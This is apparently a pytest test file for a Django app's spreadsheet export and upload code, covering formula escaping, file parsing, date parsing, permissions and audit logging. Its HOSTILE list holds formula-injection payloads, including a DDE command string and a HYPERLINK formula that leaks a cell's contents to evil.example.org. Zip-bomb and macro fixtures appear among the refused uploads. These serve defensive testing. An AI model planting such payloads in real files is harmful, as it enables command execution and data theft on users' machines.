"""Lists out and in: no cell runs, what went out comes back, and Excel's damage is understood."""

import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from coproduction.dates import parse_date
from coproduction.exceptions import RuleBroken
from coproduction.models import Event, Message
from coproduction.safe_files import sentences
from coproduction.spreadsheets import (
    csv_response,
    match_columns,
    read_table,
    reading,
    xlsx_response,
)
from coproduction.spreadsheets.cells import (
    LONGEST,
    from_csv,
    from_xlsx,
    safe_for_csv,
    safe_for_xlsx,
)
from coproduction.tests import files
from coproduction.tests.factories import InfluenceFactory, PersonFactory, WorkFactory
from coproduction.tests.files import upload
from hub.actions import send_request
from hub.tests.factories import HubFactory, RequestFactory

# What spreadsheets run, or what they turn into something else.
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example.org?"&A1)',
    "+44 1632 960001",
    "-5",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 (the wide sign is what is tried)
    "'=1+1",
    "''+44",
    "'quoted'",
    "007",
    "1E5",
    "#N/A",
    "TRUE",
    "27/03/2027",
    "_x0041_",
    "a\x00b".replace("\x00", "\x01"),
    "a\r\nb\rc\nd",
    " spaces ",
    'say "no", then; go\t',
    "\ufeffmark",
    "\ufffe\uffff",
    "\U0001f469\u200d\U0001f467",
]
# Text as the database holds it: it refuses the zero character, and UTF-8 has no half letters.
TEXTS = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=40)


def sheet_of(response):
    """The only sheet of a workbook, as openpyxl sees its cells."""
    return load_workbook(BytesIO(response.content)).worksheets[0]


def sent(response):
    return b"".join(response.streaming_content)


# Without a deadline: a workbook takes longer while the machine is busy with more.
@settings(deadline=None)
@given(cells=st.lists(TEXTS.filter(str.strip), min_size=1, max_size=5))
@example(cells=HOSTILE)
def test_any_text_is_no_formula_in_xlsx_and_comes_back(cells):
    """Read by the reader's own way into a workbook; the file checks have tests of their own."""
    names = [f"Column {place}" for place in range(len(cells))]

    response = xlsx_response("list", names, [cells])

    kinds = {cell.data_type for row in sheet_of(response) for cell in row}
    assert kinds == {"s"}
    table = reading._table(reading._xlsx_rows(response.content))
    assert table.rows == (reading.Row(2, tuple(cells)),)


@given(cells=st.lists(TEXTS.filter(str.strip), min_size=1, max_size=5))
@example(cells=HOSTILE)
def test_any_text_is_no_formula_in_csv_and_comes_back(cells):
    names = [f"Column {place}" for place in range(len(cells))]

    data = sent(csv_response("list", names, [cells]))

    assert data.startswith(b"\xef\xbb\xbfColumn 0")
    for cell in cells:
        assert not safe_for_csv(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert read_table(upload("list.csv", data)).rows == (reading.Row(2, tuple(cells)),)


@given(TEXTS)
def test_escapes_are_taken_off_again(text):
    assert from_csv(safe_for_csv(text)) == text
    assert from_xlsx(safe_for_xlsx(text)) == text


def test_workbook_from_a_browser_and_back(settings):
    """The whole way round: the file checks write the workbook anew, and nothing is lost."""
    response = xlsx_response("list", ["What"], [[text] for text in HOSTILE])

    table = read_table(upload("list.xlsx", response.content))

    assert [row.cells[0] for row in table.rows] == HOSTILE


def test_days_times_and_numbers_are_real_in_xlsx_and_iso_in_csv():
    summer = datetime(2027, 7, 1, 10, 30, tzinfo=UTC)
    row = [date(2027, 3, 27), summer, 40, Decimal("12.50"), -5, None, True, ""]
    names = list("abcdefgh")

    sheet = sheet_of(xlsx_response("list", names, [row]))
    text = sent(csv_response("list", names, [row])).decode("utf-8-sig")

    assert [cell.value for cell in sheet[2]] == [
        datetime(2027, 3, 27),
        datetime(2027, 7, 1, 11, 30),
        40,
        12.5,
        -5,
        None,
        "Yes",
        None,
    ]
    assert [cell.number_format for cell in sheet[2]][:2] == ["dd/mm/yyyy", "dd/mm/yyyy hh:mm"]
    assert text.splitlines()[1] == "2027-03-27,2027-07-01 11:30,40,12.50,-5,,Yes,"


def test_workbook_is_made_to_be_read():
    response = xlsx_response("list", ["Title", "Why"], [["A", "b " * 200]], sheet="Requests")

    sheet = sheet_of(response)

    assert (sheet.title, sheet.freeze_panes) == ("Requests", "A2")
    assert [cell.font.bold for cell in sheet[1]] == [True, True]
    assert sheet["A2"].font.bold is False
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [10, 60]
    assert response["Content-Disposition"] == 'attachment; filename="list.xlsx"'


def test_text_that_excel_cannot_hold_ends_in_dots():
    sheet = sheet_of(xlsx_response("list", ["What"], [["x" * 40_000], ["\x01" * 40_000]]))

    assert (len(sheet["A2"].value), sheet["A2"].value[-2:]) == (LONGEST, "x…")
    assert from_xlsx(sheet["A3"].value)[-2:] == "\x01…"


def test_csv_is_written_row_by_row():
    taken = []

    def rows():
        for number in range(3):
            taken.append(number)
            yield [number]

    lines = iter(csv_response("list", ["n"], rows()))

    assert (next(lines), next(lines), taken) == (b"\xef\xbb\xbf", b"n\r\n", [])
    assert (next(lines), taken) == (b"0\r\n", [0])


def cells_of(name, data):
    table = read_table(upload(name, data))
    return table.headers, [(row.number, row.cells) for row in table.rows]


POUND = "Cost;Said\r\n£5;“Yes”\r\n"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.csv", POUND.encode()),
        ("a.csv", POUND.encode("utf-8-sig")),
        ("a.csv", POUND.encode("cp1252")),
        ("a.csv", POUND.replace("\r\n", "\n").encode("cp1252")),
        ("a.csv", POUND.replace("\r\n", "\r").encode()),
        ("a.csv", POUND.replace(";", "\t").encode("utf-16")),
        ("a.txt", POUND.replace(";", "\t").encode()),
        ("a.CSV", POUND.replace(";", ",").encode()),
        ("a.csv", POUND.replace("Cost", '"Cost"').encode()),
    ],
)
def test_what_excel_makes_of_a_csv_is_understood(name, data):
    assert cells_of(name, data) == (("Cost", "Said"), [(2, ("£5", "“Yes”"))])


def test_csv_that_names_its_divider_is_understood():
    assert cells_of("a.csv", b"sep=;\r\nA,B;C\r\n1,5;x\r\n") == (("A,B", "C"), [(3, ("1,5", "x"))])


def test_blank_rows_are_left_out_and_the_others_keep_their_numbers():
    data = b'\r\nName,Note\r\n\r\n , \r\nAmina,"two\r\nlines"\r\nDev\r\n'

    assert cells_of("a.csv", data) == (
        ("Name", "Note"),
        [(5, ("Amina", "two\r\nlines")), (6, ("Dev", ""))],
    )


def workbook(*rows, prepare=lambda book: None):
    book, made = Workbook(), BytesIO()
    for row in rows:
        book.active.append(row)
    prepare(book)
    book.save(made)
    return made.getvalue()


def test_workbook_of_excel_is_read_with_its_real_days():
    data = workbook(
        ["Title", "On", "Minutes", "Sure"],
        [],
        ["Clubs", datetime(2027, 3, 27), 40.0, True],
        ["Taxis", datetime(2027, 3, 27, 11, 30), 12.5, None],
        prepare=lambda book: setattr(book.active["A1"], "font", Font(bold=True)),
    )

    assert cells_of("a.xlsx", data) == (
        ("Title", "On", "Minutes", "Sure"),
        [
            (3, ("Clubs", date(2027, 3, 27), 40, "Yes")),
            (4, ("Taxis", datetime(2027, 3, 27, 11, 30), 12.5, "")),
        ],
    )


def test_formula_is_read_as_words_and_never_worked_out():
    """What Excel last showed, or the formula's own words where Excel never saw it."""
    data = workbook(["A", "B"], ["=1+1", '=HYPERLINK("https://evil.example.org")'])
    with_value = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as source, zipfile.ZipFile(with_value, "w") as target:
        for part in source.infolist():
            content = source.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                assert b"<f>1+1</f><v" in content
                content = content.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>7</v>")
                content = content.replace(b"<f>1+1</f><v></v>", b"<f>1+1</f><v>7</v>")
            target.writestr(part.filename, content)

    table = read_table(upload("a.xlsx", with_value.getvalue()))

    assert table.rows[0].cells == (7, '=HYPERLINK("https://evil.example.org")')


def test_text_and_day_of_a_row():
    row = reading.Row(2, (" a ", 40.0, 12.5, "27/3/2027", date(2027, 3, 27), "  "))

    assert [row.text(place) for place in range(3)] == ["a", "40", "12.5"]
    assert [row.day(place) for place in (3, 4, 5)] == [date(2027, 3, 27), date(2027, 3, 27), None]
    with pytest.raises(RuleBroken, match="“a” is not a date"):
        row.day(0)


def many_rows(number):
    return b"Name\r\n" + b"x\r\n" * number


REFUSED = {
    "nothing in it": ("a.csv", lambda: b"", sentences.EMPTY),
    "only blanks": ("a.csv", lambda: b" \r\n,,\r\n", sentences.EMPTY),
    "only a mark": ("a.csv", lambda: b"\xef\xbb\xbf", sentences.EMPTY),
    "blank workbook": ("a.xlsx", lambda: workbook(), sentences.EMPTY),
    "too big": ("a.csv", lambda: bytes(10 * 1024 * 1024), sentences.TOO_BIG),
    "other kind": ("a.numbers", lambda: b"PK", reading.WRONG_KIND),
    "old Excel": ("a.xls", lambda: files.OLE, reading.WRONG_KIND),
    "PDF": ("a.pdf", files.pdf, reading.WRONG_KIND),
    "locked": (
        "a.xlsx",
        lambda: files.OLE + "EncryptedPackage".encode("utf-16-le"),
        sentences.LOCKED,
    ),
    "macros": (
        "a.xlsx",
        lambda: files.office("xlsx", {"xl/vbaProject.bin": "x"}),
        sentences.HAS_MACROS,
    ),
    "bomb": (
        "a.xlsx",
        lambda: files.office("xlsx", {"xl/sharedStrings.xml": bytes(20_000_000)}),
        sentences.UNPACKS_TO_TOO_MUCH,
    ),
    "more than is read": (
        "a.xlsx",
        lambda: files.office("xlsx", {f"xl/{n}.xml": bytes(999_999) for n in range(60)}),
        sentences.TOO_MUCH,
    ),
    "not a workbook inside": ("a.xlsx", lambda: files.office("xlsx"), reading.UNREADABLE),
    "workbook called CSV": ("a.csv", lambda: workbook(["A"], ["b"]), reading.NOT_IN_OUR_LETTERS),
    "letters of nobody": ("a.csv", lambda: b"Name\r\n\x81\x8d\r\n", reading.NOT_IN_OUR_LETTERS),
    "half a UTF-16": ("a.csv", lambda: b"\xff\xfea", reading.NOT_IN_OUR_LETTERS),
    "names only": ("a.csv", lambda: b"Name,Date\r\n", reading.NOTHING_BELOW),
    "no names": ("a.csv", lambda: b"Clubs,27/03/2027\r\nTaxis,1\r\n", reading.NO_HEADINGS),
    "no names in a workbook": (
        "a.xlsx",
        lambda: workbook(["Clubs", date(2027, 3, 27)], ["x"]),
        reading.NO_HEADINGS,
    ),
    "too many rows": ("a.csv", lambda: many_rows(5_001), reading.TOO_MANY_ROWS),
    "too many columns": (
        "a.csv",
        lambda: b",".join([b"A"] * 201) + b"\r\nb\r\n",
        reading.TOO_MANY_COLUMNS,
    ),
    "too many columns in a workbook": (
        "a.xlsx",
        lambda: workbook(["A"] * 300, ["b"]),
        reading.TOO_MANY_COLUMNS,
    ),
    "endless cell": ("a.csv", lambda: b'Name\r\n"' + b"x" * 200_000, reading.UNREADABLE),
    "more cells than names": (
        "a.csv",
        lambda: b"Name\r\nDev\r\nA,b\r\n",
        "Row 3 has something in column 2, and the first row names 1 columns. Name that column too, "
        "or empty the cell.",
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_list_that_cannot_be_read_is_refused_with_its_sentence(case):
    name, content, sentence = REFUSED[case]

    with pytest.raises(RuleBroken) as refusal:
        read_table(upload(name, content()))

    assert str(refusal.value) == sentence


def test_most_rows_are_read():
    assert len(read_table(upload("a.csv", many_rows(5_000))).rows) == 5_000


def test_columns_are_found_by_any_of_their_names():
    wanted = {
        "title": ("Title", "topic"),
        "due_on": ("Due date", "When"),
        "minutes": ("Minutes",),
        "who": ("Who comes",),
    }

    found = match_columns(["TOPIC ", "due-date", "", "Colour", "who_COMES", "Title"], wanted)

    assert found.places == {"title": 0, "due_on": 1, "who": 4}
    assert found.missing == ["Minutes"]
    assert found.unknown == ["Colour"]


@pytest.mark.parametrize(
    "text",
    [
        "27/03/2027",
        "27/3/27",
        "27.03.2027",
        "27-03-2027",
        "2027-03-27",
        "2027-03-27T00:00:00",
        "27 March 2027",
        " 27th  Mar\u00a02027 ",
        "Saturday 27 March 2027",
        "Sat, 27 mar 2027",
        date(2027, 3, 27),
        datetime(2027, 3, 27, 11, 30),
    ],
)
def test_day_is_understood_as_people_write_it(text):
    assert parse_date(text) == date(2027, 3, 27)


@pytest.mark.parametrize("text", ["Mar 2027", "march 2027", "1 March 2027", "Sept 2027"])
def test_month_is_its_first_day(text):
    assert parse_date(text) == date(2027, 9 if "Sep" in text else 3, 1)


@pytest.mark.parametrize(
    "text", ["", "soon", "03/27/2027", "30/02/2027", "27 March", "0/0/2027", "2027", "46473", "27"]
)
def test_what_is_no_day_is_refused_with_a_sentence(text):
    with pytest.raises(RuleBroken) as refusal:
        parse_date(text)

    expected = f"“{text}” is not a date. Write the day first, such as 27/03/2027."
    assert str(refusal.value) == expected


LISTS = {
    "/here/work/": ("work", "rep"),
    "/here/influence/": ("influence", "chair"),
    "/here/mails/": ("mails", "coordinator"),
    "/here/hub/requests/": ("requests", "coordinator"),
}


def furnish(cast, number):
    """So many more of each thing, with a title that a spreadsheet would run."""
    hub = HubFactory(forum=cast.forum)
    for _ in range(number):
        work = WorkFactory(
            forum=cast.forum, title="=1+1", level="co_design", level_reason="Agreed."
        )
        InfluenceFactory(work=work, owed_by=cast.officer)
        asked = RequestFactory(hub=hub, requestor=cast.officer, title="=1+1", work=work)
        send_request(request=asked, by=cast.officer)


def on_screen(client, address):
    """The headings and the rows of the list as a page shows them, all its pages together.

    A column of buttons is nothing to read: it stays on the page.
    """
    table = client.get(address).context["table"]
    read = [column for column in table.columns if not column.column.exclude_from_export]
    return [str(column.header) for column in read], len(table.rows)


@pytest.mark.parametrize("address", LISTS)
@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_list_is_downloaded_as_it_is_on_screen(address, form, cast, signed_in):
    name, who = LISTS[address]
    furnish(cast, 30)
    client = signed_in(getattr(cast, who))

    response = client.get(f"{address}download.{form}")

    headings, rows = on_screen(client, address)
    data = b"".join(response)
    today = timezone.localdate()
    assert response["Content-Disposition"] == (
        f'attachment; filename="here-{name}-{today:%Y-%m-%d}.{form}"'
    )
    found = read_table(upload(f"list.{form}", data))
    assert (list(found.headers), len(found.rows)) == (headings, rows)
    assert rows >= 30
    event = Event.objects.latest("pk")
    assert (event.verb, event.fields) == (f"{name}.exported", [f"rows: {rows}"])
    assert (event.actor, event.subject_id) == (
        f"person:{getattr(cast, who).pk}",
        cast.forum.pk,
    )


@pytest.mark.parametrize("address", LISTS)
def test_page_leads_to_the_download_with_its_filter(address, cast, signed_in):
    _, who = LISTS[address]
    furnish(cast, 1)

    page = signed_in(getattr(cast, who)).get(f"{address}?sort=state&page=1").content.decode()

    assert f'<a href="{address}download.xlsx?sort=state">Download as a spreadsheet</a>' in page
    assert f'<a href="{address}download.csv?sort=state">Download as CSV</a>' in page


def test_filter_and_order_of_the_page_are_those_of_the_file(cast, signed_in):
    due = timezone.localdate()
    for days, title in ((3, "Taxis"), (1, "Clubs"), (2, "Letters")):
        work = WorkFactory(forum=cast.forum, title=title)
        InfluenceFactory(work=work, owed_by=cast.officer, due_on=due + timedelta(days=days))
    InfluenceFactory(
        work=WorkFactory(forum=cast.forum, title="Gone"),
        owed_by=cast.officer,
        state="lapsed",
        closed_reason="x",
    )
    address = "/here/influence/download.xlsx?state=owed&sort=-due_on"

    response = signed_in(cast.chair).get(address)

    table = read_table(upload("a.xlsx", response.content))
    assert [row.cells[0] for row in table.rows] == ["Taxis", "Letters", "Clubs"]
    assert [row.cells[3] for row in table.rows][0] == due + timedelta(days=3)
    assert {row.cells[4] for row in table.rows} == {"Waiting for an answer"}
    assert Event.objects.latest("pk").fields == ["rows: 3", "filter: state"]


def test_search_words_are_not_in_the_record(cast, signed_in):
    WorkFactory(forum=cast.forum, title="Jane Secret")

    signed_in(cast.rep).get("/here/work/download.csv?search=Jane+Secret")

    assert Event.objects.latest("pk").fields == ["rows: 1", "filter: search"]


def test_officer_downloads_no_more_than_they_see(cast, signed_in):
    colleague = PersonFactory(forum=cast.forum, roles=["officer"])
    mine = InfluenceFactory(work__forum=cast.forum, owed_by=cast.officer)
    InfluenceFactory(work__forum=cast.forum, owed_by=colleague)

    response = signed_in(cast.officer).get("/here/influence/download.xlsx")

    table = read_table(upload("a.xlsx", response.content))
    assert [row.cells[0] for row in table.rows] == [mine.work.title]


def test_mails_say_whom_to_reach_and_how(cast, signed_in):
    person = PersonFactory(forum=cast.forum, email="", phone="+44 1632 960001", contact_by="phone")
    Message.objects.create(
        forum=cast.forum,
        person=person,
        kind="x",
        subject="Your session",
        body="x",
        state="no_email",
        written_at=timezone.now(),
    )

    response = signed_in(cast.chair).get("/here/mails/download.xlsx")

    (row,) = read_table(upload("a.xlsx", response.content)).rows
    assert (row.cells[0], row.cells[1], row.cells[4]) == (
        "Your session",
        person.name,
        "No email: tell them another way",
    )
    assert "+44 1632 960001" in row.cells[2]
    assert row.cells[3].date() == timezone.localdate()


@pytest.mark.parametrize(
    ("address", "queries"),
    [
        ("/here/work/", 15),
        ("/here/influence/", 14),
        ("/here/mails/", 14),
        ("/here/hub/requests/", 14),
    ],
)
def test_download_asks_as_much_for_three_rows_as_for_one(
    address, queries, cast, signed_in, django_assert_num_queries
):
    client = signed_in(getattr(cast, LISTS[address][1]))
    for rows in (1, 2):
        furnish(cast, rows)
        with django_assert_num_queries(queries):
            b"".join(client.get(f"{address}download.csv"))


def test_empty_list_offers_no_download(cast, signed_in):
    page = signed_in(cast.rep).get("/here/work/").content.decode()

    assert "No work found" in page
    assert "Download" not in page
